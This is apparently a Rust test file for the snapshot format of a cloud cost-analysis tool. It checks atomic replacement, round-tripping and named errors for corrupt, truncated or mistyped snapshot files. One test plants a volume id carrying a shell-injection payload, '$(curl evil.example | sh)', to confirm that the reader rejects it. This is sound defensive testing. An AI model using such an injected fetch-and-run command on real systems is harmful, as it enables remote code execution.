//! The snapshot format: written atomically, read back exactly, and every way a
//! snapshot can be broken is an error naming the table, file and column.

use std::path::Path;

use chrono::{NaiveDate, NaiveDateTime};
use costwise_analyzer::manifest::{Account, Period, Source, SourceKind, TableStatus};
use costwise_analyzer::snapshot::{SnapshotInfo, SnapshotWriter};
use costwise_analyzer::{Dataset, Error, Table};
use polars::prelude::*;

fn at(day: u32) -> NaiveDateTime {
    NaiveDate::from_ymd_opt(2026, 10, day).unwrap().and_hms_opt(0, 0, 0).unwrap()
}

fn info() -> SnapshotInfo {
    SnapshotInfo {
        created_at: at(31),
        source: Source { kind: SourceKind::Synthetic, description: "snapshot test".into(), inputs: vec![] },
        accounts: vec![Account { id: "111111111111".into(), name: None }],
        regions: vec!["us-east-1".into()],
        period: Period { start: at(1), end: at(31) },
        currency: "USD".into(),
        data_gaps: vec![],
    }
}

fn volumes(ids: &[&str]) -> DataFrame {
    let n = ids.len();
    DataFrame::new_infer_height(vec![
        Column::new("account_id".into(), vec!["111111111111"; n]),
        Column::new("region".into(), vec!["us-east-1"; n]),
        Column::new("volume_id".into(), ids.to_vec()),
        Column::new("volume_type".into(), vec!["gp3"; n]),
        Column::new("size_gib".into(), vec![100i64; n]),
        Column::new("state".into(), vec!["available"; n]),
        Column::new("tags".into(), vec!["{}"; n]),
    ])
    .unwrap()
}

fn write(dir: &Path, ids: &[&str]) {
    let mut writer = SnapshotWriter::create(dir).unwrap();
    writer.write_frame(Table::Volumes, volumes(ids)).unwrap();
    writer.finish(info()).unwrap();
}

fn read_parquet(path: &Path) -> DataFrame {
    ParquetReader::new(std::fs::File::open(path).unwrap()).finish().unwrap()
}

fn write_parquet(path: &Path, mut frame: DataFrame) {
    let file = std::fs::File::create(path).unwrap();
    ParquetWriter::new(file).finish(&mut frame).unwrap();
}

#[test]
fn a_snapshot_round_trips_and_records_absent_tables() {
    let dir = tempfile::tempdir().unwrap();
    let snap = dir.path().join("snap");
    write(&snap, &["vol-1", "vol-2"]);
    let dataset = Dataset::open(&snap).unwrap();
    assert_eq!(dataset.manifest().tables[&Table::Volumes], TableStatus::Present { rows: 2 });
    assert!(matches!(dataset.manifest().tables[&Table::Costs], TableStatus::Absent { .. }));
    assert!(!dataset.has(Table::Costs));
    let frame = dataset.table(Table::Volumes).unwrap().collect().unwrap();
    assert_eq!(frame.width(), Table::Volumes.columns().len(), "missing nullable columns are filled");
    assert_eq!(frame.column("iops").unwrap().null_count(), 2);
    assert_eq!(dataset.as_of(), at(31));
}

#[test]
fn finishing_replaces_an_existing_snapshot_and_leaves_no_staging_behind() {
    let dir = tempfile::tempdir().unwrap();
    let snap = dir.path().join("snap");
    write(&snap, &["vol-1"]);
    write(&snap, &["vol-1", "vol-2", "vol-3"]);
    let dataset = Dataset::open(&snap).unwrap();
    assert_eq!(dataset.manifest().tables[&Table::Volumes], TableStatus::Present { rows: 3 });
    let entries: Vec<String> =
        std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert_eq!(entries, ["snap"]);
}

#[test]
fn a_directory_that_is_not_a_snapshot_is_never_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let precious = dir.path().join("home");
    std::fs::create_dir(&precious).unwrap();
    std::fs::write(precious.join("thesis.txt"), "do not delete").unwrap();
    let mut writer = SnapshotWriter::create(&precious).unwrap();
    writer.write_frame(Table::Volumes, volumes(&["vol-1"])).unwrap();
    let err = writer.finish(info()).unwrap_err().to_string();
    assert!(err.contains("not a snapshot"), "{err}");
    assert_eq!(std::fs::read_to_string(precious.join("thesis.txt")).unwrap(), "do not delete");
}

#[test]
fn a_missing_required_column_on_write_names_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut writer = SnapshotWriter::create(dir.path().join("snap")).unwrap();
    let err = writer.write_frame(Table::Volumes, volumes(&["vol-1"]).drop("size_gib").unwrap()).unwrap_err();
    assert!(matches!(&err, Error::MissingColumn { column, .. } if column == "size_gib"), "{err:?}");
}

/// Writes a good snapshot, lets `break_it` damage it, and returns the error of opening it.
fn open_broken(break_it: impl FnOnce(&Path)) -> String {
    let dir = tempfile::tempdir().unwrap();
    let snap = dir.path().join("snap");
    write(&snap, &["vol-1", "vol-2"]);
    break_it(&snap);
    Dataset::open(&snap).unwrap_err().to_string()
}

#[test]
fn every_kind_of_broken_snapshot_is_named() {
    let truncated = open_broken(|snap| {
        let path = snap.join("volumes.parquet");
        let bytes = std::fs::read(&path).unwrap();
        std::fs::write(&path, &bytes[..bytes.len() / 2]).unwrap();
    });
    assert!(truncated.contains("volumes.parquet") && truncated.contains("truncated or corrupt"), "{truncated}");

    let missing_column = open_broken(|snap| {
        let path = snap.join("volumes.parquet");
        let frame = read_parquet(&path).drop("state").unwrap();
        write_parquet(&path, frame);
    });
    assert!(
        missing_column.contains("`volumes`") && missing_column.contains("missing column `state`"),
        "{missing_column}"
    );

    let wrong_type = open_broken(|snap| {
        let path = snap.join("volumes.parquet");
        let mut frame = read_parquet(&path);
        frame.replace("size_gib", Column::new("size_gib".into(), ["100 GiB", "8 GiB"])).unwrap();
        write_parquet(&path, frame);
    });
    assert!(wrong_type.contains("column `size_gib` should be int64, found str"), "{wrong_type}");

    let nulls = open_broken(|snap| {
        let path = snap.join("volumes.parquet");
        let mut frame = read_parquet(&path);
        frame.replace("volume_id", Column::new("volume_id".into(), [Some("vol-1"), None])).unwrap();
        write_parquet(&path, frame);
    });
    assert!(nulls.contains("required column `volume_id` has 1 null value(s)"), "{nulls}");

    // An id AWS never writes is refused wherever the file came from: remediation commands paste it.
    let hostile = open_broken(|snap| {
        let path = snap.join("volumes.parquet");
        let mut frame = read_parquet(&path);
        frame
            .replace("volume_id", Column::new("volume_id".into(), ["vol-1", "vol-2 $(curl evil.example | sh)"]))
            .unwrap();
        write_parquet(&path, frame);
    });
    assert!(hostile.contains("volumes.parquet"), "{hostile}");
    assert!(
        hostile.contains(r#"column `volume_id` holds "vol-2 $(curl evil.example | sh)", not an AWS identifier"#),
        "{hostile}"
    );

    let missing_file = open_broken(|snap| std::fs::remove_file(snap.join("volumes.parquet")).unwrap());
    assert!(missing_file.contains("listed as present in the manifest, but the file is missing"), "{missing_file}");

    let future = open_broken(|snap| {
        let path = snap.join("manifest.json");
        let text = std::fs::read_to_string(&path).unwrap().replace("\"format_version\": 1", "\"format_version\": 99");
        std::fs::write(path, text).unwrap();
    });
    assert!(future.contains("format version 99 is not supported"), "{future}");

    let garbage = open_broken(|snap| std::fs::write(snap.join("manifest.json"), "{ not json").unwrap());
    assert!(garbage.contains("manifest.json") && garbage.contains("invalid manifest"), "{garbage}");

    let dir = tempfile::tempdir().unwrap();
    let not_a_snapshot = Dataset::open(dir.path()).unwrap_err().to_string();
    assert!(not_a_snapshot.contains("no manifest.json"), "{not_a_snapshot}");
}
